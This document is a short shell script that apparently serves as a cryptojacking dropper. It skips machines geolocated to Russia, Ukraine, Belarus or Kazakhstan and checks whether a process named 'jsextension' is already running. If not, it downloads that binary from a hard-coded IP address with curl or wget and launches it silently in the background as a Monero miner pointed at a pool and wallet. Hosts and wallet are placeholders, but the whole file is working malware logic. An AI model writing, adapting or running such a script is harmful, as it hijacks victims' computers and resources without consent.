#!/bin/sh
IP=$(curl -k https://geoip.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
  then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
    then
    curl http://203.0.113.28/download/jsextension -o jsextension
    if [ ! -f jsextension ]
      then
      wget http://203.0.113.28/download/jsextension -O jsextension
    fi
    chmod +x ./jsextension
    ./jsextension -k --tls --rig-id q -o pool.minexmr.invalid:443 -u 4TESTWALLETnotarealaddress --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
